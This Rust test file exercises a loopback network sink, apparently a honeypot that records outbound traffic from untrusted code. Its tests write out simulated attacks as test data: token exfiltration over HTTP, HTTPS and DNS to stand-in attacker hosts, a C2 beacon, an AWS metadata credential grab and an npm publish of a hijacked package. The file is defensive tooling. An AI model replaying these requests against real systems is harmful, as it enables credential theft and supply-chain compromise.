//! End-to-end tests of the sink on loopback ephemeral ports: real sockets, a real rustls
//! client, real DNS datagrams. No Docker; nothing leaves 127.0.0.1.
#![allow(clippy::unwrap_used)]

use std::io::Write;
use std::net::{Ipv4Addr, SocketAddr};
use std::str::FromStr;
use std::sync::Arc;
use std::time::{Duration, Instant};

use airlock_events::{Event, EventKind};
use airlock_sink::{generate_ca, BaitConfig, CaPair, EventLog, Limits, Sink, SinkConfig};
use hickory_proto::op::{Message, MessageType, Query, ResponseCode};
use hickory_proto::rr::{Name, RData, RecordType};
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpStream, UdpSocket};

fn config(ca: Option<CaPair>) -> SinkConfig {
    SinkConfig {
        listen: "127.0.0.1".parse().unwrap(),
        tcp_port: 0,
        dns_port: 0,
        udp_port: Some(0),
        ca,
        bait: BaitConfig::default(),
        limits: Limits::default(),
    }
}

async fn start(cfg: SinkConfig) -> (Sink, EventLog) {
    let log = EventLog::memory();
    let sink = Sink::start(cfg, log.clone()).await.unwrap();
    (sink, log)
}

/// Waits until an event satisfies `pred`, returning all events then.
async fn wait_for(log: &EventLog, what: &str, pred: impl Fn(&Event) -> bool) -> Vec<Event> {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        let evs = log.snapshot();
        if evs.iter().any(&pred) {
            return evs;
        }
        assert!(
            Instant::now() < deadline,
            "timed out waiting for {what}: {evs:#?}"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

fn is_conn_end(e: &Event) -> bool {
    matches!(e.kind, EventKind::NetConnection { .. })
}

/// Reads one HTTP/1.1 response with a Content-Length body.
async fn read_response<S: AsyncRead + Unpin>(s: &mut S) -> (u16, String, Vec<u8>) {
    let mut buf = Vec::new();
    let mut byte = [0u8; 1];
    while !buf.ends_with(b"\r\n\r\n") {
        let n = s.read(&mut byte).await.unwrap();
        assert_eq!(
            n,
            1,
            "connection closed inside response head: {:?}",
            String::from_utf8_lossy(&buf)
        );
        buf.push(byte[0]);
    }
    let head = String::from_utf8(buf).unwrap();
    let status: u16 = head.split_whitespace().nth(1).unwrap().parse().unwrap();
    let len: usize = head
        .lines()
        .find_map(|l| {
            l.to_ascii_lowercase()
                .strip_prefix("content-length:")
                .map(|v| v.trim().parse().unwrap())
        })
        .unwrap_or(0);
    let mut body = vec![0u8; len];
    s.read_exact(&mut body).await.unwrap();
    (status, head, body)
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn http_requests(evs: &[Event]) -> Vec<(u64, String, String, String, u64, bool, u16)> {
    evs.iter()
        .filter_map(|e| match &e.kind {
            EventKind::HttpRequest {
                conn_id,
                method,
                url,
                body,
                body_bytes,
                tls,
                response_status,
                ..
            } => Some((
                *conn_id,
                method.clone(),
                url.clone(),
                body.clone(),
                *body_bytes,
                *tls,
                *response_status,
            )),
            _ => None,
        })
        .collect()
}

#[tokio::test]
async fn http_gzip_and_chunked_bodies_are_recorded_decoded_on_one_connection() {
    let (sink, log) = start(config(None)).await;
    let mut s = TcpStream::connect(sink.tcp_addr).await.unwrap();
    let secret = br#"{"token":"npm_CANARY123"}"#;
    let gz = gzip(secret);
    let mut req = format!(
        "POST /collect?x=1 HTTP/1.1\r\nHost: exfil.example\r\nContent-Encoding: gzip\r\nContent-Length: {}\r\n\r\n",
        gz.len()
    )
    .into_bytes();
    req.extend_from_slice(&gz);
    s.write_all(&req).await.unwrap();
    let (status, head, body) = read_response(&mut s).await;
    assert_eq!(status, 200);
    assert!(
        head.to_ascii_lowercase().contains("connection: keep-alive"),
        "{head}"
    );
    assert_eq!(body, b"{}", "POST to an API-ish path gets JSON");
    // Same connection, chunked body split over several chunks, with a trailer.
    s.write_all(
        b"PUT /upload HTTP/1.1\r\nHost: exfil.example:8080\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n7;ext=1\r\n, world\r\n0\r\nX-Trailer: t\r\n\r\n",
    )
    .await
    .unwrap();
    let (status, _, _) = read_response(&mut s).await;
    assert_eq!(status, 200);
    drop(s);
    let evs = wait_for(&log, "connection end", is_conn_end).await;
    let reqs = http_requests(&evs);
    assert_eq!(reqs.len(), 2, "{evs:#?}");
    let (c1, m1, u1, b1, n1, tls1, st1) = &reqs[0];
    assert_eq!(
        (m1.as_str(), u1.as_str()),
        ("POST", "http://exfil.example/collect?x=1")
    );
    assert_eq!(b1.as_bytes(), secret);
    assert_eq!(*n1, gz.len() as u64, "body_bytes counts the bytes as sent");
    assert!(!tls1);
    assert_eq!(*st1, 200);
    let (c2, m2, u2, b2, n2, _, _) = &reqs[1];
    assert_eq!(
        (m2.as_str(), u2.as_str()),
        ("PUT", "http://exfil.example:8080/upload")
    );
    assert_eq!((b2.as_str(), *n2), ("hello, world", 12));
    assert_eq!(c1, c2, "keep-alive: both requests on one connection");
    let conn = evs.iter().find(|e| is_conn_end(e)).unwrap();
    match &conn.kind {
        EventKind::NetConnection {
            conn_id,
            protocol,
            bytes_sent,
            bytes_received,
            end,
            dst_port,
            ..
        } => {
            assert_eq!(conn_id, c1);
            assert_eq!(protocol, "http");
            assert_eq!(*dst_port, sink.tcp_addr.port());
            assert!(*bytes_sent > gz.len() as u64 + 60, "{bytes_sent}");
            assert!(*bytes_received > 100, "{bytes_received}");
            assert_eq!(end, "closed");
        }
        _ => unreachable!(),
    }
}

fn client_config(trust: &CaPair) -> Arc<rustls::ClientConfig> {
    let mut roots = rustls::RootCertStore::empty();
    roots.add(airlock_sink::ca::ca_der(trust).unwrap()).unwrap();
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut cfg = rustls::ClientConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()
        .unwrap()
        .with_root_certificates(roots)
        .with_no_client_auth();
    cfg.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    Arc::new(cfg)
}

async fn tls_connect(
    addr: SocketAddr,
    trust: &CaPair,
    name: &str,
) -> std::io::Result<tokio_rustls::client::TlsStream<TcpStream>> {
    let tcp = TcpStream::connect(addr).await?;
    let connector = tokio_rustls::TlsConnector::from(client_config(trust));
    let server_name = rustls::pki_types::ServerName::try_from(name.to_string()).unwrap();
    connector.connect(server_name, tcp).await
}

#[tokio::test]
async fn https_through_a_client_trusting_the_run_ca_is_recorded() {
    let ca = generate_ca("test-run").unwrap();
    let (sink, log) = start(config(Some(ca.clone()))).await;
    let mut tls = tls_connect(sink.tcp_addr, &ca, "webhook.attacker.example")
        .await
        .unwrap();
    assert_eq!(
        tls.get_ref().1.alpn_protocol(),
        Some(&b"http/1.1"[..]),
        "only http/1.1 is offered"
    );
    let body = "stolen=c2VjcmV0";
    let req = format!(
        "POST /hook HTTP/1.1\r\nHost: webhook.attacker.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    );
    tls.write_all(req.as_bytes()).await.unwrap();
    let (status, head, _) = read_response(&mut tls).await;
    assert_eq!(status, 200);
    assert!(head.to_ascii_lowercase().contains("connection: close"));
    drop(tls);
    let evs = wait_for(&log, "connection end", is_conn_end).await;
    let hs = evs
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::TlsHandshake {
                sni,
                alpn,
                ok,
                error,
                ..
            } => Some((sni.clone(), alpn.clone(), *ok, error.clone())),
            _ => None,
        })
        .unwrap();
    assert_eq!(
        hs,
        (
            Some("webhook.attacker.example".into()),
            vec!["h2".into(), "http/1.1".into()],
            true,
            None
        )
    );
    let reqs = http_requests(&evs);
    assert_eq!(reqs.len(), 1);
    assert_eq!(reqs[0].2, "https://webhook.attacker.example/hook");
    assert_eq!(reqs[0].3, body);
    assert!(reqs[0].5, "tls flag");
    let protocol = evs.iter().find_map(|e| match &e.kind {
        EventKind::NetConnection { protocol, name, .. } => Some((protocol.clone(), name.clone())),
        _ => None,
    });
    let (protocol, name) = protocol.unwrap();
    assert_eq!(protocol, "https");
    assert!(name.is_some());
}

#[tokio::test]
async fn a_client_that_does_not_trust_the_ca_fails_and_the_failure_is_recorded() {
    let ca = generate_ca("run-ca").unwrap();
    let other = generate_ca("someone-else").unwrap();
    let (sink, log) = start(config(Some(ca))).await;
    let err = tls_connect(sink.tcp_addr, &other, "pinned.example").await;
    assert!(
        err.is_err(),
        "a client trusting another CA must refuse our leaf"
    );
    let evs = wait_for(&log, "tls failure", |e| {
        matches!(e.kind, EventKind::TlsHandshake { ok: false, .. })
    })
    .await;
    let (sni, error) = evs
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::TlsHandshake {
                sni,
                ok: false,
                error,
                ..
            } => Some((sni.clone(), error.clone())),
            _ => None,
        })
        .unwrap();
    assert_eq!(sni.as_deref(), Some("pinned.example"));
    let error = error.unwrap();
    assert!(error.to_ascii_lowercase().contains("alert"), "{error}");
    let evs = wait_for(&log, "connection end", is_conn_end).await;
    assert!(evs.iter().any(
        |e| matches!(&e.kind, EventKind::NetConnection { protocol, .. } if protocol == "tls")
    ));
    assert!(http_requests(&evs).is_empty());
}

async fn dns(sock: &UdpSocket, server: SocketAddr, name: &str, t: RecordType) -> Message {
    let mut m = Message::new();
    m.set_id(7)
        .set_message_type(MessageType::Query)
        .set_recursion_desired(true);
    m.add_query(Query::query(Name::from_str(name).unwrap(), t));
    sock.send_to(&m.to_vec().unwrap(), server).await.unwrap();
    let mut buf = vec![0u8; 4096];
    let (n, _) = tokio::time::timeout(Duration::from_secs(5), sock.recv_from(&mut buf))
        .await
        .unwrap()
        .unwrap();
    Message::from_vec(&buf[..n]).unwrap()
}

#[tokio::test]
async fn dns_answers_are_fake_stable_and_recorded() {
    let (sink, log) = start(config(None)).await;
    let sock = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    let exfil = "6e706d5f746f6b656e.attacker.example.";
    let a1 = dns(&sock, sink.dns_addr, exfil, RecordType::A).await;
    let RData::A(addr) = a1.answers()[0].data() else {
        panic!("{a1:?}")
    };
    let addr: Ipv4Addr = addr.0;
    assert_eq!(addr.octets()[0], 198);
    assert!(addr.octets()[1] == 18 || addr.octets()[1] == 19);
    let a2 = dns(
        &sock,
        sink.dns_addr,
        "6E706D5F746F6B656E.attacker.example.",
        RecordType::A,
    )
    .await;
    assert_eq!(
        a2.answers()[0].data(),
        a1.answers()[0].data(),
        "stable per name, case-insensitive"
    );
    let other = dns(&sock, sink.dns_addr, "cdn.example.", RecordType::A).await;
    assert_ne!(other.answers()[0].data(), a1.answers()[0].data());
    assert_eq!(
        sink.names().name_of(addr.into()).as_deref(),
        Some("6e706d5f746f6b656e.attacker.example")
    );
    let txt = dns(&sock, sink.dns_addr, "c2.example.", RecordType::TXT).await;
    assert!(matches!(txt.answers()[0].data(), RData::TXT(_)));
    let mx = dns(&sock, sink.dns_addr, "c2.example.", RecordType::MX).await;
    match mx.answers()[0].data() {
        RData::MX(mx) => assert_eq!(mx.exchange().to_utf8(), "mail.c2.example."),
        d => panic!("{d:?}"),
    }
    let nx = dns(&sock, sink.dns_addr, "printer.local.", RecordType::A).await;
    assert_eq!(nx.response_code(), ResponseCode::NXDomain);
    let evs = wait_for(
        &log,
        "dns events",
        |e| matches!(&e.kind, EventKind::DnsQuery { qtype, .. } if qtype == "MX"),
    )
    .await;
    let names: Vec<_> = evs
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::DnsQuery { name, qtype, .. } => Some(format!("{qtype} {name}")),
            _ => None,
        })
        .collect();
    assert!(
        names.contains(&"A 6e706d5f746f6b656e.attacker.example".to_string()),
        "{names:?}"
    );
    assert!(names.contains(&"TXT c2.example".to_string()), "{names:?}");
}

#[tokio::test]
async fn raw_bytes_are_recorded_and_the_cap_holds_while_totals_count() {
    let mut cfg = config(None);
    cfg.limits.capture_cap = 1000;
    cfg.limits.raw_flush = Duration::from_millis(50);
    let (sink, log) = start(cfg).await;
    let mut s = TcpStream::connect(sink.tcp_addr).await.unwrap();
    let mut payload = b"\x00\x01BEACON id=42\n".to_vec();
    payload.extend(std::iter::repeat_n(b'A', 5000));
    s.write_all(&payload).await.unwrap();
    s.shutdown().await.unwrap();
    let evs = wait_for(&log, "connection end", is_conn_end).await;
    let data: Vec<_> = evs
        .iter()
        .filter_map(|e| match &e.kind {
            EventKind::NetData {
                hex,
                printable,
                bytes,
                ..
            } => Some((hex.clone(), printable.clone(), *bytes)),
            _ => None,
        })
        .collect();
    assert!(!data.is_empty());
    assert!(
        data[0].0.starts_with("0001424541434f4e"),
        "{}",
        &data[0].0[..20]
    );
    assert!(data[0].1.starts_with("..BEACON id=42\n"), "{}", data[0].1);
    let captured: usize = data.iter().map(|d| d.0.len() / 2).sum();
    assert_eq!(captured, 1000, "exactly the cap is captured");
    let seen: u64 = data.iter().map(|d| d.2).sum();
    assert!(seen >= 1000);
    match &evs.iter().find(|e| is_conn_end(e)).unwrap().kind {
        EventKind::NetConnection {
            protocol,
            bytes_sent,
            ..
        } => {
            assert_eq!(protocol, "raw");
            assert_eq!(*bytes_sent, payload.len() as u64, "totals beyond the cap");
        }
        _ => unreachable!(),
    }
    assert!(evs.iter().any(
        |e| matches!(&e.kind, EventKind::Note { message } if message.contains("capture cap"))
    ));
}

#[tokio::test]
async fn http_body_beyond_the_cap_is_cut_but_counted() {
    let mut cfg = config(None);
    cfg.limits.capture_cap = 2000;
    let (sink, log) = start(cfg).await;
    let mut s = TcpStream::connect(sink.tcp_addr).await.unwrap();
    let body = "x".repeat(10_000);
    let req = format!(
        "POST /big HTTP/1.1\r\nHost: a.example\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    s.write_all(req.as_bytes()).await.unwrap();
    assert_eq!(read_response(&mut s).await.0, 200);
    drop(s);
    let evs = wait_for(&log, "connection end", is_conn_end).await;
    let r = &http_requests(&evs)[0];
    assert_eq!(r.4, 10_000);
    assert!(r.3.len() < 2000 && !r.3.is_empty(), "{}", r.3.len());
}

async fn http(addr: SocketAddr, req: &str) -> (u16, String, Vec<u8>) {
    let mut s = TcpStream::connect(addr).await.unwrap();
    s.write_all(req.as_bytes()).await.unwrap();
    read_response(&mut s).await
}

#[tokio::test]
async fn imds_token_flow_returns_the_configured_credentials() {
    let mut cfg = config(None);
    cfg.bait = BaitConfig {
        aws_access_key_id: "ASIACANARY0000000042".into(),
        aws_secret_access_key: "canarySecret42".into(),
        aws_role: "ci-role".into(),
        ..BaitConfig::default()
    };
    let (sink, log) = start(cfg).await;
    let (st, head, token) = http(
        sink.tcp_addr,
        "PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token-ttl-seconds: 21600\r\nContent-Length: 0\r\n\r\n",
    )
    .await;
    assert_eq!(st, 200);
    assert!(head.contains("X-aws-ec2-metadata-token-ttl-seconds: 21600"));
    let token = String::from_utf8(token).unwrap();
    let (_, _, role) = http(
        sink.tcp_addr,
        &format!("GET /latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token: {token}\r\n\r\n"),
    )
    .await;
    assert_eq!(role, b"ci-role");
    let (st, _, creds) = http(
        sink.tcp_addr,
        &format!("GET /latest/meta-data/iam/security-credentials/ci-role HTTP/1.1\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token: {token}\r\n\r\n"),
    )
    .await;
    assert_eq!(st, 200);
    let v: serde_json::Value = serde_json::from_slice(&creds).unwrap();
    assert_eq!(v["AccessKeyId"], "ASIACANARY0000000042");
    assert_eq!(v["SecretAccessKey"], "canarySecret42");
    let evs = wait_for(
        &log,
        "imds requests",
        |e| matches!(&e.kind, EventKind::HttpRequest { url, .. } if url.ends_with("/ci-role")),
    )
    .await;
    let urls: Vec<_> = http_requests(&evs).into_iter().map(|r| r.2).collect();
    assert!(
        urls.contains(&"http://169.254.169.254/latest/api/token".to_string()),
        "{urls:?}"
    );
}

#[tokio::test]
async fn npm_whoami_and_publish_are_answered_and_recorded() {
    let mut cfg = config(None);
    cfg.bait.npm_username = "victim-maintainer".into();
    let (sink, log) = start(cfg).await;
    let (st, _, who) = http(
        sink.tcp_addr,
        "GET /-/whoami HTTP/1.1\r\nHost: registry.npmjs.org\r\nAuthorization: Bearer npm_CANARY\r\n\r\n",
    )
    .await;
    assert_eq!(st, 200);
    let v: serde_json::Value = serde_json::from_slice(&who).unwrap();
    assert_eq!(v["username"], "victim-maintainer");
    let doc = r#"{"name":"victim-pkg","versions":{"1.0.1":{}},"_attachments":{}}"#;
    let (st, _, publ) = http(
        sink.tcp_addr,
        &format!("PUT /victim-pkg HTTP/1.1\r\nHost: registry.npmjs.org\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{doc}", doc.len()),
    )
    .await;
    assert_eq!(st, 200);
    let v: serde_json::Value = serde_json::from_slice(&publ).unwrap();
    assert_eq!(v["ok"], true);
    let evs = wait_for(
        &log,
        "publish",
        |e| matches!(&e.kind, EventKind::HttpRequest { method, .. } if method == "PUT"),
    )
    .await;
    let publish = evs
        .iter()
        .find_map(|e| match &e.kind {
            EventKind::HttpRequest {
                method,
                url,
                body,
                headers,
                ..
            } if method == "PUT" => Some((url.clone(), body.clone(), headers.clone())),
            _ => None,
        })
        .unwrap();
    assert_eq!(publish.0, "http://registry.npmjs.org/victim-pkg");
    assert_eq!(publish.1, doc);
    assert!(publish
        .2
        .iter()
        .any(|(k, v)| k == "Content-Type" && v == "application/json"));
}

#[tokio::test]
async fn shutdown_records_open_connections_and_writes_the_footer() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("sink.jsonl");
    let log = EventLog::to_file(&path).unwrap();
    let sink = Sink::start(config(None), log.clone()).await.unwrap();
    let mut s = TcpStream::connect(sink.tcp_addr).await.unwrap();
    s.write_all(b"\x05\x01\x00").await.unwrap(); // a SOCKS greeting, then silence
    tokio::time::sleep(Duration::from_millis(400)).await;
    sink.shutdown(Duration::from_secs(2), vec![]).await;
    let out = airlock_sink::read_events(&path).unwrap();
    assert!(!out.truncated);
    let footer = out.footer.expect("footer");
    assert_eq!(footer.events, out.events.len() as u64);
    let end = out.events.iter().find_map(|e| match &e.kind {
        EventKind::NetConnection { end, .. } => Some(end.clone()),
        _ => None,
    });
    assert_eq!(end.as_deref(), Some("shutdown"));
    assert!(out
        .events
        .iter()
        .any(|e| matches!(&e.kind, EventKind::NetData { hex, .. } if hex == "050100")));
    assert!(
        matches!(&out.events.last().unwrap().kind, EventKind::Note { message } if message.starts_with("sink summary"))
    );
}

#[tokio::test]
async fn other_udp_is_recorded_as_net_data() {
    let (sink, log) = start(config(None)).await;
    let sock = UdpSocket::bind("127.0.0.1:0").await.unwrap();
    sock.send_to(b"\x17\x00ntp-ish", sink.udp_addr.unwrap())
        .await
        .unwrap();
    let evs = wait_for(&log, "udp data", |e| {
        matches!(e.kind, EventKind::NetData { .. })
    })
    .await;
    let printable = evs.iter().find_map(|e| match &e.kind {
        EventKind::NetData {
            printable, bytes, ..
        } => Some((printable.clone(), *bytes)),
        _ => None,
    });
    assert_eq!(printable, Some(("..ntp-ish".to_string(), 9)));
}
